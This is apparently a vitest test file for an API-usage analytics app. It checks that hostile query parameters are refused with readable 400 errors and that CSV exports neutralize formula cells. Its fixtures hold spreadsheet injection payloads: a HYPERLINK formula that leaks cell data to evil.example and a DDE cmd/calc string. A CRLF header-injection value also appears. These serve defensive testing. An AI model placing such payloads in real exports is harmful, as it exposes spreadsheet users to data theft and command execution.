/**
 * Hostile query parameters against every read function and route schema: each is refused with an
 * AppError 4xx (a readable sentence) before any SQL runs or any byte is streamed.
 */
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { refreshUsageAction } from "@/app/actions/refresh";
import type { DbHandle } from "@/db/types";
import {
  buildUsageCsv,
  countUsageRows,
  getFilterOptions,
  getUsageBreakdown,
  getUsageTimeSeries,
  getUsageTotals,
  listUsageRows,
  READ_TIMEOUT_MESSAGE,
  streamUsageCsv,
  usageExportQuerySchema,
  usageQuerySchema,
  withReadTimeout,
} from "@/lib/analytics";
import { isAppError } from "@/lib/errors";
import { fetchAndStoreUsageForOrg } from "@/lib/ingestion/fetch-and-store";
import { createKey } from "@/lib/keys/create";
import { createKeySchema } from "@/lib/keys/schemas";
import { ingestRequestSchema } from "@/lib/usage/schemas";
import { parseOrThrow } from "@/lib/validation";
import { createTestDb, createTestOrg } from "../test-db";
import { generateRecords, store } from "./fixture";

const DB = process.env.TEST_DATABASE_URL ? "PostgreSQL" : "PGlite";
const RANGE = { start: "2025-03-01", end: "2025-03-10" };
let handle: DbHandle;
let orgId: string;
let keyId: string;
let stored: number;

beforeAll(async () => {
  handle = await createTestDb();
  const org = await createTestOrg(handle.db, "owner", "hostile");
  orgId = org.orgId;
  const { key } = await createKey(
    handle.db,
    org.actor,
    createKeySchema.parse({
      provider: "openai",
      label: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      apiKey: "sk-proj-TESTONLYnotarealkey00000000abcd",
    }),
  );
  keyId = key.id;
  const records = generateRecords(5, 10, RANGE.start);
  records[0] = { ...records[0]!, model: "@SUM(1+1)*cmd|' /C calc'!A0" };
  await store(handle.db, { orgId, accountId: key.accountId }, records);
  stored = records.length;
});
afterAll(async () => handle?.close());

/** The error a call rejects with; a resolved call is a test failure. */
async function refusal(call: () => Promise<unknown>): Promise<{ status: number; message: string }> {
  const outcome = await call().then(
    () => null,
    (e: unknown) => e,
  );
  if (!isAppError(outcome)) throw new Error(`expected an AppError, got ${String(outcome)}`);
  return { status: outcome.status, message: outcome.message };
}

const HOSTILE_FILTERS: [string, Record<string, unknown>, RegExp][] = [
  ["the 9999 range", { start: "9999-12-01", end: "9999-12-31" }, /start must be a date between 2000-01-01 and/],
  ["year 0000", { start: "0000-01-01", end: "0000-01-31" }, /start must be a date between 2000-01-01 and/],
  ["the day after 9999-12-31", { start: "2025-03-01", end: "+010000-01-01" }, /end must be a real date/],
  ["a NUL model", { ...RANGE, model: "\u0000" }, /model must not contain control characters/],
  ["a CRLF project", { ...RANGE, projectId: "proj\r\nX-Evil: 1" }, /projectId must not contain control characters/],
  ["a lone surrogate", { ...RANGE, apiKeyId: "key_\uD800" }, /apiKeyId must be valid Unicode text/],
  ["a tab in a tier", { ...RANGE, serviceTier: "de\tfault" }, /serviceTier must not contain control characters/],
  ["a 10k-character user", { ...RANGE, providerUserId: "u".repeat(10_000) }, /providerUserId must be at most 200/],
  ["a NUL account id", { ...RANGE, accountId: "\u0000" }, /accountId: must be a provider account id/],
];

describe(`hostile analytics parameters on ${DB}`, () => {
  it.each(HOSTILE_FILTERS)("every read function refuses %s with a 400 that says why", async (_name, filters, why) => {
    const f = filters as never;
    const calls: [string, () => Promise<unknown>][] = [
      ["totals", () => getUsageTotals(handle.db, orgId, f)],
      ["time series", () => getUsageTimeSeries(handle.db, orgId, f, "week")],
      ["breakdown", () => getUsageBreakdown(handle.db, orgId, f, "model")],
      ["rows", () => listUsageRows(handle.db, orgId, f)],
      ["count", () => countUsageRows(handle.db, orgId, f)],
      ["csv", () => buildUsageCsv(handle.db, orgId, f)],
      ["csv stream", () => streamUsageCsv(handle.db, orgId, f)],
    ];
    for (const [name, call] of calls) {
      const r = await refusal(call);
      expect(r.status, name).toBe(400);
      expect(r.message, name).toMatch(why);
    }
  });

  it("filter options refuse the 9999 and 0000 ranges the same way", async () => {
    for (const range of [
      { start: "9999-12-01", end: "9999-12-31" },
      { start: "0000-01-01", end: "2025-01-01" },
    ]) {
      const r = await refusal(() => getFilterOptions(handle.db, orgId, range));
      expect(r).toEqual({ status: 400, message: expect.stringMatching(/start must be a date between 2000-01-01/) });
    }
  });

  it("the GET /api/usage and export query schemas refuse hostile strings before any read", () => {
    const query = (schema: typeof usageQuerySchema | typeof usageExportQuerySchema, q: Record<string, string>) => {
      try {
        parseOrThrow(schema, q, "query");
        return null;
      } catch (e) {
        return isAppError(e) ? { status: e.status, message: e.message } : e;
      }
    };
    for (const schema of [usageQuerySchema, usageExportQuerySchema]) {
      expect(query(schema, { start: "9999-12-01", end: "9999-12-31" })).toEqual({
        status: 400,
        message: expect.stringMatching(
          /^Invalid query: start must be a date between 2000-01-01 and \d{4}-\d{2}-\d{2}; end must/,
        ),
      });
      expect(query(schema, { start: "9999-12-01" })).toMatchObject({ status: 400 });
      expect(query(schema, { end: "0000-01-01" })).toMatchObject({ status: 400 });
      expect(query(schema, { model: "\u0000" })).toEqual({
        status: 400,
        message: "Invalid query: model must not contain control characters (including line breaks and tabs)",
      });
    }
    expect(query(usageQuerySchema, { view: "breakdown", dimension: "\u0000" })).toMatchObject({
      message: expect.stringMatching(/dimension must be one of/),
    });
    expect(query(usageQuerySchema, { pageSize: "1e9" })).toMatchObject({ status: 400 });
    expect(query(usageQuerySchema, { limit: "100000" })).toMatchObject({ status: 400 });
    expect(query(usageExportQuerySchema, { ["\u0000".repeat(3)]: "1" })).toEqual({
      status: 400,
      message: "Invalid query: unknown field: ???",
    });
  });

  it("the Refresh action answers bad dates with a message before it touches the session or the database", async () => {
    for (const input of [{ start: "0000-01-01" }, { end: "9999-12-31" }, { start: "2026-01-01\u0000" }]) {
      expect(await refreshUsageAction(input)).toEqual({
        status: "failed",
        message: expect.stringMatching(/^Invalid dates: (start|end) must be a (real )?date/),
        code: "VALIDATION_FAILED",
      });
    }
    expect(await refreshUsageAction("0000-01-01" as never)).toMatchObject({ status: "failed" });
  });

  it("ingestion refuses the year 0000 and 9999 windows at the schema and in the entry point", async () => {
    expect(ingestRequestSchema.safeParse({ start: "0000-01-01" }).success).toBe(false);
    expect(ingestRequestSchema.safeParse({ end: "9999-12-31" }).success).toBe(false);
    for (const window of [{ start: "0000-01-01" }, { start: "2025-01-01", end: "9999-12-31" }]) {
      const r = await refusal(() => fetchAndStoreUsageForOrg(handle.db, orgId, { ...window, trigger: "api" }));
      expect(r.status).toBe(400);
      expect(r.message).toMatch(/must be a date between 2000-01-01 and/);
    }
  });
});

describe(`CSV export bounds and cells on ${DB}`, () => {
  it("refuses an export over its row cap before streaming, and serves one at the cap", async () => {
    const over = await refusal(() => streamUsageCsv(handle.db, orgId, RANGE, { maxRows: stored - 1 }));
    expect(over).toEqual({
      status: 400,
      message: `This export would hold ${stored} rows; one file holds at most ${stored - 1}. Narrow the date range or add a filter.`,
    });
    const csv = await new Response(await streamUsageCsv(handle.db, orgId, RANGE, { maxRows: stored })).text();
    expect(csv.trim().split("\r\n")).toHaveLength(stored + 1);
  });

  it("neutralizes formula cells from an account label and a model name, and keeps numbers as numbers", async () => {
    const rows = parse(await buildUsageCsv(handle.db, orgId, RANGE), { columns: true }) as Record<string, string>[];
    expect(stored).toBeGreaterThan(1);
    expect(rows).toHaveLength(stored);
    expect(new Set(rows.map((r) => r.provider_account))).toEqual(
      new Set(['\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")']),
    );
    expect(rows.filter((r) => r.model.startsWith("'@SUM("))).toHaveLength(1);
    expect(rows.filter((r) => /^[=+\-@\t\r]/.test(r.model) || /^[=+\-@\t\r]/.test(r.provider_account))).toEqual([]);
    expect(rows.every((r) => /^\d+$/.test(r.input_tokens))).toBe(true);
  });
});

describe(`statement timeout on analytics reads (${DB})`, () => {
  it(
    DB === "PostgreSQL"
      ? "cancels a read past the limit with a 503 that says to narrow the range, only inside that read"
      : "PGlite cannot cancel a running statement: the read finishes (documented limitation)",
    async () => {
      const slow = () =>
        withReadTimeout(handle.db, { statementTimeoutMs: 50 }, (tx) => tx.execute(sql`select pg_sleep(0.5)`));
      if (DB === "PostgreSQL") {
        expect(await refusal(slow)).toEqual({ status: 503, message: READ_TIMEOUT_MESSAGE });
        const after = await handle.db.execute(sql`select current_setting('statement_timeout') as v`);
        expect((after as unknown as { rows: { v: string }[] }).rows[0]!.v).toBe("0");
      } else {
        await expect(slow()).resolves.toBeDefined();
      }
    },
  );

  it("runs reads read-only, so a read function can never write", async () => {
    const write = await withReadTimeout(handle.db, {}, (tx) =>
      tx.execute(sql`update provider_keys set label = 'changed' where id = ${keyId}::uuid`),
    ).then(
      () => null,
      (e: unknown) => e,
    );
    expect(write).toBeInstanceOf(Error);
    const [row] = (
      (await handle.db.execute(sql`select label from provider_keys where id = ${keyId}::uuid`)) as unknown as {
        rows: { label: string }[];
      }
    ).rows;
    expect(row!.label).toMatch(/^=HYPERLINK/);
  });
});
